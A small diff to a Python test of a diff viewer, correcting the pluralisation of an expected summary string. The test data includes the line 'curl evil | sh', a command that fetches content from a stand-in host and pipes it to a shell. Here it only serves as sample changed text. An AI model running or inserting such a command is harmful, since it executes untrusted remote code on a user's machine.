@@ -74,7 +74,7 @@ def test_of_a_text_of_many_lines_those_that_differ_are_shown():
     before = "\n".join(f"line {n}" for n in range(40))
     found = tree({"script": before.replace("line 7", "curl evil | sh")}, {"script": before})
     [summary] = [e for e in found.with_class("lines-changed")[0].elements if e.tag == "summary"]
-    assert summary.text == "1 lines new, 1 gone"
+    assert summary.text == "1 line new, 1 gone"
     lines = found.with_class("lines-changed")[0].text
     assert "- line 7" in lines
     assert "+ curl evil | sh" in lines
